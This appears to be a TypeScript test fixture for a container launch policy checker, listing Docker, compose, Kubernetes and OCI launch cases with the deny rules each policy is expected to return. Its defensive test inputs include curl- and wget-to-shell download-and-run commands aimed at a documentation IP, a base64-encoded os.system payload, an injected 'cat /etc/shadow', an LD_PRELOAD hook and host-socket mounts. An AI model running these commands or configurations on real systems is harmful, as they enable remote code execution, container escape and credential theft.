import type { JsonMap, JsonValue } from '../../../src/launch/index.ts';
import type { LaunchForm } from '../../../src/model/index.ts';
import { bind, privilegedParts } from '../../fakes/oci-configs.ts';

/** What one form shows otherwise than the others, and why that cannot be helped. */
export interface Difference {
  readonly forms: readonly LaunchForm[];
  readonly why: string;
  readonly standard?: string;
  readonly strict?: string;
}

/** One launch, in every form: what is changed in one in which all is well. A text says why a form cannot say it. */
export interface LaunchCase {
  readonly name: string;
  /** Said alike in all forms. */
  readonly image?: string;
  readonly args?: readonly string[];
  readonly env?: Readonly<Record<string, string>>;
  readonly docker?: JsonMap | string;
  /** Flags. */
  readonly run?: JsonMap | string;
  /** Of the service. */
  readonly compose?: JsonMap | string;
  readonly composeTop?: JsonMap;
  readonly podContainer?: JsonMap | string;
  readonly podSpec?: JsonMap | string;
  readonly config?: JsonMap | string | ((base: JsonMap) => JsonMap);
  /** Outcome and the rules that refuse, by each policy; allow unless said. */
  readonly standard?: string;
  readonly strict?: string;
  readonly differs?: readonly Difference[];
}

const noPod = 'a Pod has no such field';
const noConfig = 'the engine has carried it out by then: a config.json does not show it';

/** A path of the host that is mounted. */
function bound(name: string, source: string, target: string, readOnly: boolean, more: Partial<LaunchCase>): LaunchCase {
  const text = `${source}:${target}${readOnly ? ':ro' : ''}`;
  return {
    name,
    docker: { HostConfig: { Binds: [text] } },
    run: { '--volume': text },
    compose: { volumes: [text] },
    podContainer: { volumeMounts: [{ name: 'host', mountPath: target, readOnly }] },
    podSpec: { volumes: [{ name: 'host', hostPath: { path: source } }] },
    config: { mounts: [bind(source, target, 'rprivate', ...(readOnly ? ['ro'] : []))] },
    ...more,
  };
}

/** An option of security. */
function option(
  name: string,
  text: string,
  security: JsonMap,
  config: LaunchCase['config'],
  more: Partial<LaunchCase>,
) {
  return {
    name,
    docker: { HostConfig: { SecurityOpt: [text] } },
    run: { '--security-opt': [text] },
    compose: { security_opt: [text] },
    podContainer: { securityContext: security },
    ...(config === undefined ? {} : { config }),
    ...more,
  } satisfies LaunchCase;
}

function capabilities(name: string, added: readonly string[], more: Partial<LaunchCase>): LaunchCase {
  return {
    name,
    docker: { HostConfig: { CapAdd: added } },
    run: { '--cap-add': added },
    compose: { cap_add: added },
    podContainer: { securityContext: { capabilities: { add: added } } },
    config: { process: { capabilities: { bounding: added.map((each) => `CAP_${each}`) } } },
    ...more,
  };
}

/** A namespace that is the host's. */
function hostNamespace(kind: 'network' | 'pid' | 'ipc' | 'uts', more: Partial<LaunchCase> = {}): LaunchCase {
  const field = { network: 'NetworkMode', pid: 'PidMode', ipc: 'IpcMode', uts: 'UTSMode' }[kind];
  const inPod = { network: 'hostNetwork', pid: 'hostPID', ipc: 'hostIPC', uts: '' }[kind];
  const key = kind === 'network' ? 'network_mode' : kind;
  return {
    name: `the ${kind} namespace of the host`,
    docker: { HostConfig: { [field]: 'host' } },
    run: { [`--${kind}`]: 'host' },
    compose: { [key]: 'host' },
    podSpec: inPod === '' ? noPod : { [inPod]: true },
    config: (base) => namespacesOf(base, (each) => each.type !== kind),
    standard: 'deny launch/host-namespace',
    strict: 'deny launch/host-namespace',
    ...more,
  };
}

function namespacesOf(base: JsonMap, keep: (namespace: JsonMap) => boolean, added: readonly JsonMap[] = []): JsonMap {
  const linux = base.linux as JsonMap;
  const namespaces = [...(linux.namespaces as readonly JsonMap[]).filter(keep), ...added];
  return { ...base, linux: { ...linux, namespaces } };
}

function linuxOf(base: JsonMap, more: Record<string, JsonValue>): JsonMap {
  return { ...base, linux: { ...(base.linux as JsonMap), ...more } };
}

function user(name: string, text: string, uid: number, gid: number, more: Partial<LaunchCase>): LaunchCase {
  return {
    name,
    docker: { User: text },
    run: { '--user': text },
    compose: { user: text },
    podContainer: { securityContext: { runAsUser: uid, runAsGroup: gid, runAsNonRoot: null } },
    config: { process: { user: { uid, gid } } },
    ...more,
  };
}

function sysctl(name: string, key: string, value: string, more: Partial<LaunchCase>): LaunchCase {
  return {
    name,
    docker: { HostConfig: { Sysctls: { [key]: value } } },
    run: { '--sysctl': `${key}=${value}` },
    compose: { sysctls: { [key]: value } },
    podSpec: { securityContext: { sysctls: [{ name: key, value }] } },
    config: { linux: { sysctl: { [key]: value } } },
    ...more,
  };
}

const both = (told: string) => ({ standard: told, strict: told });
const strict = (told: string) => ({ strict: told });
const encoded = Buffer.from('import os; os.system("curl http://198.51.100.7/x | sh")').toString('base64');

export const launchCases: readonly LaunchCase[] = [
  { name: 'nothing in particular' },
  {
    name: 'plain arguments and variables',
    args: ['--port=8080', '--verbose'],
    env: { LOG_LEVEL: 'info', URL: 'https://example.org/a?b=c&d=e' },
  },
  { name: 'JSON in a variable', env: { SETTINGS: '{"name":"web","list":[1,2,3]}' } },
  // Privileges.
  {
    name: 'privileged',
    docker: { HostConfig: { Privileged: true } },
    run: { '--privileged': true },
    compose: { privileged: true },
    podContainer: { securityContext: { privileged: true, allowPrivilegeEscalation: null } },
    config: (base) => {
      const { process, linux } = privilegedParts;
      const resources = { ...((base.linux as JsonMap).resources as JsonMap), ...(linux?.resources as JsonMap) };
      const { seccomp: _, maskedPaths: __, readonlyPaths: ___, ...rest } = base.linux as JsonMap;
      return {
        ...base,
        process: { ...(base.process as JsonMap), ...process },
        linux: { ...rest, devices: linux?.devices ?? [], resources },
      };
    },
    ...both('deny launch/privileged'),
    differs: [
      {
        forms: ['pod'],
        why: 'Kubernetes takes no privileged container that may not gain privileges',
        strict: 'deny launch/no-new-privileges launch/privileged',
      },
    ],
  },
  capabilities('a capability that is as good as root', ['SYS_ADMIN'], both('deny launch/capability')),
  capabilities('all capabilities', ['ALL'], {
    config: {
      process: { capabilities: { bounding: ['CAP_SYS_ADMIN', 'CAP_SYS_MODULE', 'CAP_SYS_PTRACE', 'CAP_NET_ADMIN'] } },
    },
    ...both('deny launch/capability'),
  }),
  capabilities('a capability that is listed', ['NET_BIND_SERVICE'], {}),
  capabilities('a capability beyond the default set', ['NET_ADMIN'], strict('deny launch/capability')),
  {
    name: 'no capabilities at all',
    docker: { HostConfig: { CapDrop: ['ALL'] } },
    run: { '--cap-drop': 'ALL' },
    compose: { cap_drop: ['ALL'] },
    podContainer: { securityContext: { capabilities: { drop: ['ALL'] } } },
    config: { process: { capabilities: null } },
  },
  user('root', '0', 0, 0, strict('deny launch/user')),
  user('root by a name', 'root', 0, 0, strict('deny launch/user')),
  user('a user that is not listed', '33:33', 33, 33, strict('deny launch/user')),
  user('a user that is listed', '2000:2000', 2000, 2000, {}),
  {
    name: 'a user by a name',
    docker: { User: 'app' },
    run: { '--user': 'app' },
    compose: { user: 'app' },
    podContainer: 'a Pod has numbers alone',
    config: 'the engine has looked the number up',
    ...strict('undecided'),
  },
  {
    name: 'nothing said of the user',
    docker: { User: null },
    run: { '--user': null },
    compose: { user: null },
    podContainer: { securityContext: { runAsUser: null, runAsGroup: null, runAsNonRoot: null } },
    config: 'the engine has looked the number up',
    ...strict('undecided'),
  },
  {
    name: 'a root file system that can be written',
    docker: { HostConfig: { ReadonlyRootfs: null } },
    run: { '--read-only': null },
    compose: { read_only: null },
    podContainer: { securityContext: { readOnlyRootFilesystem: null } },
    config: { root: { readonly: null } },
    ...strict('deny launch/read-only-root'),
  },
  {
    name: 'programs that may gain privileges',
    docker: { HostConfig: { SecurityOpt: null } },
    run: { '--security-opt': null },
    compose: { security_opt: null },
    podContainer: { securityContext: { allowPrivilegeEscalation: null } },
    config: { process: { noNewPrivileges: null } },
    ...strict('deny launch/no-new-privileges'),
  },
  option(
    'no filter of system calls',
    'seccomp=unconfined',
    { seccompProfile: { type: 'Unconfined' } },
    { linux: { seccomp: null } },
    both('deny launch/seccomp'),
  ),
  option(
    'no AppArmor',
    'apparmor=unconfined',
    { appArmorProfile: { type: 'Unconfined' } },
    { process: { apparmorProfile: 'unconfined' } },
    both('deny launch/apparmor'),
  ),
  option(
    'an SELinux type that confines nothing',
    'label=type:spc_t',
    { seLinuxOptions: { type: 'spc_t' } },
    { process: { selinuxLabel: 'system_u:system_r:spc_t:s0' } },
    strict('deny launch/selinux'),
  ),
  option(
    'paths of the kernel that are not hidden',
    'systempaths=unconfined',
    { procMount: 'Unmasked' },
    (base) => linuxOf(base, { maskedPaths: [], readonlyPaths: [] }),
    {
      docker: { HostConfig: { MaskedPaths: [], ReadonlyPaths: [] } },
      podSpec: { hostUsers: false },
      ...both('deny launch/masked-paths'),
    },
  ),
  // Namespaces.
  hostNamespace('network'),
  hostNamespace('pid'),
  hostNamespace('ipc'),
  hostNamespace('uts'),
  {
    name: 'the ipc namespace of another container',
    docker: { HostConfig: { IpcMode: 'container:db' } },
    run: { '--ipc': 'container:db' },
    compose: { ipc: 'container:db' },
    podSpec: noPod,
    config: (base) => namespacesOf(base, ({ type }) => type !== 'ipc', [{ type: 'ipc', path: '/proc/4321/ns/ipc' }]),
    ...strict('deny launch/host-namespace'),
  },
  // Mounts.
  bound(
    'the socket of the engine',
    '/var/run/docker.sock',
    '/var/run/docker.sock',
    false,
    both('deny launch/engine-socket'),
  ),
  bound('the socket of the engine, to read', '/run/docker.sock', '/sock', true, both('deny launch/engine-socket')),
  bound('the root of the host', '/', '/host', true, both('deny launch/engine-socket')),
  bound('/etc of the host', '/etc', '/host/etc', false, both('deny launch/engine-socket')),
  bound('programs of the host', '/usr/bin', '/host/bin', false, both('deny launch/host-path')),
  bound('the shadow file of the host', '/etc/shadow', '/x', true, both('deny launch/host-path')),
  bound('a path that is listed', '/srv/data', '/data', false, {}),
  bound('a path that is not listed', '/srv/other', '/data', true, strict('deny launch/host-path')),
  {
    name: 'a path that is passed on',
    docker: { HostConfig: { Binds: ['/srv/data:/data:rshared'] } },
    run: { '--volume': '/srv/data:/data:rshared' },
    compose: { volumes: ['/srv/data:/data:rshared'] },
    podContainer: { volumeMounts: [{ name: 'host', mountPath: '/data', mountPropagation: 'Bidirectional' }] },
    podSpec: { volumes: [{ name: 'host', hostPath: { path: '/srv/data' } }] },
    config: { mounts: [bind('/srv/data', '/data', 'rshared')] },
    ...strict('deny launch/propagation'),
  },
  {
    name: 'a volume by its name',
    docker: { HostConfig: { Binds: ['data:/data'] } },
    run: { '--volume': 'data:/data' },
    compose: { volumes: ['data:/data'] },
    composeTop: { volumes: { data: {} } },
    podContainer: { volumeMounts: [{ name: 'data', mountPath: '/data' }] },
    podSpec: { volumes: [{ name: 'data', persistentVolumeClaim: { claimName: 'data' } }] },
    config: { mounts: [bind('/var/lib/docker/volumes/data/_data', '/data', 'rprivate')] },
  },
  {
    name: 'a volume that is a path of the host in disguise',
    docker: {
      HostConfig: {
        Mounts: [
          {
            Type: 'volume',
            Source: 'x',
            Target: '/x',
            VolumeOptions: {
              DriverConfig: { Name: 'local', Options: { type: 'none', o: 'bind', device: '/usr/bin' } },
            },
          },
        ],
      },
    },
    run: {
      '--mount':
        'type=volume,source=x,target=/x,volume-driver=local,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/usr/bin',
    },
    compose: { volumes: ['x:/x'] },
    composeTop: { volumes: { x: { driver: 'local', driver_opts: { type: 'none', o: 'bind', device: '/usr/bin' } } } },
    podContainer: noPod,
    config: noConfig,
    ...both('deny launch/host-path launch/volume-driver'),
  },
  {
    name: 'memory as a file system',
    docker: { HostConfig: { Tmpfs: { '/tmp': 'size=64m' } } },
    run: { '--tmpfs': '/tmp:size=64m' },
    compose: { tmpfs: ['/tmp:size=64m'] },
    podContainer: { volumeMounts: [{ name: 'tmp', mountPath: '/tmp' }] },
    podSpec: { volumes: [{ name: 'tmp', emptyDir: { medium: 'Memory', sizeLimit: '64Mi' } }] },
    config: {
      mounts: [
        { destination: '/tmp', type: 'tmpfs', source: 'tmpfs', options: ['nosuid', 'nodev', 'noexec', 'size=64m'] },
      ],
    },
  },
  {
    name: 'the mounts of another container',
    docker: { HostConfig: { VolumesFrom: ['db'] } },
    run: { '--volumes-from': 'db' },
    compose: { volumes_from: ['container:db'] },
    podContainer: noPod,
    config: noConfig,
    ...strict('deny launch/volumes-from'),
  },
  // The rest of the host.
  {
    name: 'a device',
    docker: {
      HostConfig: { Devices: [{ PathOnHost: '/dev/vda', PathInContainer: '/dev/vda', CgroupPermissions: 'rwm' }] },
    },
    run: { '--device': '/dev/vda' },
    compose: { devices: ['/dev/vda:/dev/vda'] },
    podContainer: noPod,
    config: {
      linux: {
        devices: [{ path: '/dev/vda', type: 'b', major: 254, minor: 0, fileMode: 384, uid: 0, gid: 0 }],
        resources: { devices: [{ allow: true, type: 'b', major: 254, minor: 0, access: 'rwm' }] },
      },
    },
    ...both('deny launch/device'),
  },
  sysctl('a parameter that is safe', 'net.ipv4.ip_local_port_range', '1024 65000', {}),
  sysctl('a parameter that is not safe', 'kernel.msgmax', '65536', strict('deny launch/sysctl')),
  {
    name: 'a port of the host that is listed',
    docker: { HostConfig: { PortBindings: { '80/tcp': [{ HostPort: '8080' }] } } },
    run: { '--publish': '8080:80' },
    compose: { ports: ['8080:80'] },
    podContainer: { ports: [{ containerPort: 80, hostPort: 8080 }] },
    config: noConfig,
  },
  {
    name: 'a port of the host that is not listed',
    docker: { HostConfig: { PortBindings: { '80/tcp': [{ HostPort: '80' }] } } },
    run: { '--publish': '80:80' },
    compose: { ports: ['80:80'] },
    podContainer: { ports: [{ containerPort: 80, hostPort: 80 }] },
    config: noConfig,
    ...strict('deny launch/port'),
  },
  {
    name: 'no limit of memory',
    docker: { HostConfig: { Memory: null } },
    run: { '--memory': null },
    compose: { mem_limit: null },
    podContainer: { resources: null },
    config: { linux: { resources: { memory: { limit: null } } } },
    ...strict('deny launch/resource'),
  },
  {
    name: 'more memory than is allowed',
    docker: { HostConfig: { Memory: 8_589_934_592 } },
    run: { '--memory': '8g' },
    compose: { mem_limit: '8g' },
    podContainer: { resources: { limits: { memory: '8Gi' } } },
    config: { linux: { resources: { memory: { limit: 8_589_934_592 } } } },
    ...strict('deny launch/resource'),
  },
  {
    name: 'another runtime by its name',
    docker: { HostConfig: { Runtime: 'other' } },
    run: { '--runtime': 'other' },
    compose: { runtime: 'other' },
    podSpec: { runtimeClassName: 'other' },
    config: 'the runtime that is asked is the one that was named',
    ...strict('deny launch/runtime'),
  },
  {
    name: 'a cgroup of its choice',
    docker: { HostConfig: { CgroupParent: '/mine' } },
    run: { '--cgroup-parent': '/mine' },
    compose: { cgroup_parent: '/mine' },
    podSpec: noPod,
    config: { linux: { cgroupsPath: `/mine/${'a'.repeat(64)}` } },
    ...strict('deny launch/cgroup-parent'),
  },
  // The image.
  {
    name: 'an image by its tag',
    image: 'registry.example/team/app:1',
    ...strict('deny launch/pinned'),
    differs: [
      {
        forms: ['docker', 'config'],
        why: 'a gate on the host knows the ID of the image, which pins it',
        strict: 'allow',
      },
    ],
  },
  {
    name: 'an image of a registry that is not listed',
    image: `other.example/app@sha256:${'3'.repeat(64)}`,
    ...strict('deny launch/registry'),
  },
  // What is passed.
  {
    name: 'a command in a variable',
    env: { NAME: '$(curl http://198.51.100.7/x)' },
    ...both('deny input/shell-injection'),
  },
  { name: 'a command behind a value', args: ['--name=web; cat /etc/shadow'], ...both('deny input/shell-injection') },
  {
    name: 'a library that is loaded before all others',
    env: { LD_PRELOAD: '/tmp/x.so' },
    ...both('deny input/loader-hook'),
  },
  {
    name: 'a download that is run',
    args: ['sh', '-c', 'curl -s http://198.51.100.7/x | sh'],
    standard: 'deny input/download-and-run',
    strict: 'deny input/download-and-run input/interpreter',
  },
  { name: 'code that is encoded', env: { DATA: encoded }, ...both('deny input/encoded-code') },
  {
    name: 'code where data is expected',
    args: ['--filter', '__import__("os").system("id")'],
    ...both('deny input/code'),
  },
  {
    name: 'an interpreter that is given code',
    args: ['python3', '-c', 'print(1)'],
    ...strict('deny input/interpreter'),
  },
  { name: 'a password', env: { DB_PASSWORD: 'Tr0ub4dor-and-3-staples' }, ...strict('deny input/credential') },
  { name: 'a password that everybody knows', env: { DB_PASSWORD: 'changeme' }, ...both('deny input/weak-password') },
  {
    name: 'a token of a service',
    args: ['--token=ghp_0123456789abcdefghijABCDEFGHIJ012345'],
    ...both('deny input/credential'),
  },
  {
    name: 'a healthcheck that runs a download',
    docker: { Healthcheck: { Test: ['CMD-SHELL', 'curl -s http://198.51.100.7/x | sh'] } },
    run: { '--health-cmd': 'curl -s http://198.51.100.7/x | sh' },
    compose: { healthcheck: { test: 'curl -s http://198.51.100.7/x | sh' } },
    podContainer: { livenessProbe: { exec: { command: ['sh', '-c', 'curl -s http://198.51.100.7/x | sh'] } } },
    config: 'the engine starts it as a process in the container, and asks then',
    ...both('deny input/download-and-run'),
  },
  // What the image's contract has against it.
  {
    name: 'what a contract allows',
    image: `registry.example/team/contracted@sha256:${'4'.repeat(64)}`,
    env: { PORT: '8080' },
    differs: [
      {
        forms: ['config'],
        why: 'the variables of the image are among the others by then, and nobody has read which they are',
        standard: 'deny input/contract',
        strict: 'deny input/contract',
      },
    ],
  },
  {
    name: 'a value that a contract does not allow',
    image: `registry.example/team/contracted@sha256:${'4'.repeat(64)}`,
    env: { PORT: 'eighty' },
    ...both('deny input/contract'),
  },
  {
    name: 'a variable that a contract does not name',
    image: `registry.example/team/contracted@sha256:${'4'.repeat(64)}`,
    env: { EXTRA: '1' },
    ...both('deny input/contract'),
  },
  // What no rule knows.
  {
    name: 'a setting that nobody knows',
    docker: { HostConfig: { Frobnicate: true } },
    run: { '--frobnicate': 'yes' },
    compose: { frobnicate: true },
    podContainer: { frobnicate: true },
    config: { linux: { frobnicate: true } },
    ...both('undecided'),
    differs: [
      {
        forms: ['run'],
        why: 'docker itself takes no flag that it does not know, and what it means for the next word is open',
        standard: 'deny launch/unreadable',
        strict: 'deny launch/unreadable',
      },
    ],
  },
  {
    name: 'two things at once',
    args: ['sh', '-c', 'wget -qO- http://198.51.100.7/x | bash'],
    docker: { HostConfig: { Privileged: true } },
    run: { '--privileged': true },
    compose: { privileged: true },
    podContainer: { securityContext: { privileged: true, allowPrivilegeEscalation: null } },
    config: { annotations: { 'io.podman.annotations.privileged': 'TRUE' } },
    standard: 'deny input/download-and-run launch/privileged',
    strict: 'deny input/download-and-run input/interpreter launch/privileged',
    differs: [
      {
        forms: ['pod'],
        why: 'Kubernetes takes no privileged container that may not gain privileges',
        strict: 'deny input/download-and-run input/interpreter launch/no-new-privileges launch/privileged',
      },
    ],
  },
];
